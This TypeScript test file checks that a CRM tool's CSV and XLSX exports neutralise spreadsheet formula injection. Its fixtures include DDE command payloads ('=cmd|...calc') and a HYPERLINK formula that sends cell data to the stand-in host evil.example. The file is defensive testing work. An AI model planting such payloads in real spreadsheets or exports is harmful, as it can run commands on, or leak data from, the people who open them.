import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { openWorkspace, writeSheets } from '../../src/services/index.ts';
import { csvText } from '../../src/files/table-export.ts';
import { runCli } from '../helpers/run-cli.ts';
import { testApp } from '../server/helpers.ts';

// Cells an attacker can plant in a CRM export through the customer's own data (ids, contacts).
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|"/C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

/** The cells of one CSV line (RFC 4180: quoted fields, doubled quotes). */
function cells(line: string, separator = ','): string[] {
  const out: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted && ch === '"' && line[i + 1] === '"') {
      field += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (ch === separator && !quoted) {
      out.push(field);
      field = '';
    } else field += ch;
  }
  return [...out, field];
}

describe('CSV export neutralises formula cells (issue 12, §6)', () => {
  it('a text cell starting with = + - @ tab or CR is written after a quote, quoted; numbers stay numbers', () => {
    const text = csvText({
      name: 'x',
      columns: ['id', 'amount'],
      rows: [...HOSTILE.map((h) => [h, -1234.5]), ['Иванов, Пётр', 0], ['plain', null]],
    });
    const lines = text.replace(/^\uFEFF/, '').split('\r\n');
    // CR inside a cell is quoted, so split on CRLF only; the last element is the trailing empty line.
    const rows = lines.slice(1, -1).map((l) => cells(l));
    expect(rows.slice(0, HOSTILE.length).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    for (const r of rows.slice(0, HOSTILE.length)) expect(r[1]).toBe('-1234.5');
    // Every neutralised cell is quoted, so no reader can take the quote for a field boundary.
    for (const h of HOSTILE) expect(text).toContain(`"'${h.replaceAll('"', '""')}"`);
    expect(rows[HOSTILE.length]).toEqual(['Иванов, Пётр', '0']);
    expect(rows[HOSTILE.length + 1]).toEqual(['plain', '']);
  });

  it('XLSX writes a text cell "=HYPERLINK(…)" as a string, never as a formula', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'fulcrum-xlsx-')), 'list.xlsx');
    await writeSheets(file, [{ name: 'customers', columns: ['id', 'n'], rows: HOSTILE.map((h) => [h, -5]) }]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const sheet = book.getWorksheet('customers')!;
    HOSTILE.forEach((h, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML stores a CR in text as a line feed; the value is the text either way.
      expect(cell.value).toBe(h.replace('\r', '\n'));
      expect(cell.formula).toBeUndefined();
      expect(sheet.getRow(i + 2).getCell(2).value).toBe(-5);
    });
  });
});

describe('CRM list exports with hostile customer data (issue 12, §6)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'fulcrum-csv-inj-'));
  const db = join(dir, 'w.duckdb');
  beforeAll(async () => {
    const ws = await openWorkspace(db);
    // Customer ids and e-mails as a CRM exported them, hostile ones included.
    const values = HOSTILE.map(
      (h, i) =>
        `('${h.replaceAll("'", "''")}', TIMESTAMP '2024-0${1 + (i % 6)}-15 10:00:00', ${100 + i}.50, 'a${i}@example.com')`,
    );
    values.push(`('c1', TIMESTAMP '2024-03-01 10:00:00', 90.00, '=HYPERLINK("http://evil.example","x")')`);
    await ws.engine.driver.exec(
      `CREATE TABLE orders (customer_id VARCHAR, ts TIMESTAMP, revenue DECIMAL(18,2), email VARCHAR);
       INSERT INTO orders VALUES ${values.join(', ')}`,
    );
    await ws.close();
  });

  const expectNeutral = (csv: string, separator = ','): void => {
    const rows = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1, -1)
      .map((l) => cells(l, separator));
    const ids = rows.map((r) => r[0]);
    for (const h of HOSTILE) expect(ids).toContain(`'${h}`);
    const emailAt = cells(csv.replace(/^\uFEFF/, '').split('\r\n')[0]!, separator).indexOf('email');
    expect(emailAt).toBeGreaterThan(0);
    expect(rows.map((r) => r[emailAt])).toContain(`'=HYPERLINK("http://evil.example","x")`);
    // No cell anywhere starts a formula.
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  };

  it('rfm --export FILE.csv writes hostile ids and contacts as inert text', async () => {
    const file = join(dir, 'crm.csv');
    const res = await runCli(['rfm', '--db', db, '--asof', '2024-06-30', '--export', file, '--lang', 'en']);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    expectNeutral(readFileSync(file, 'utf8'));
  });

  it('GET /api/customers/list/export?format=csv writes hostile ids and contacts as inert text', async () => {
    const w = await openWorkspace(db);
    try {
      const t = await testApp({ workspace: w });
      // Both dialects: English `,` and the Russian `;` (issue 13, §4) keep the OWASP guard.
      for (const [lang, separator] of [
        ['en', ','],
        ['ru', ';'],
      ] as const) {
        const res = await t.asToken('manager', '/api/customers/list/export?format=csv&asof=2024-06-30', {
          headers: { 'accept-language': lang },
        });
        expect(res.status).toBe(200);
        expectNeutral(new TextDecoder().decode(await res.arrayBuffer()), separator);
      }
    } finally {
      await w.close();
    }
  });
});
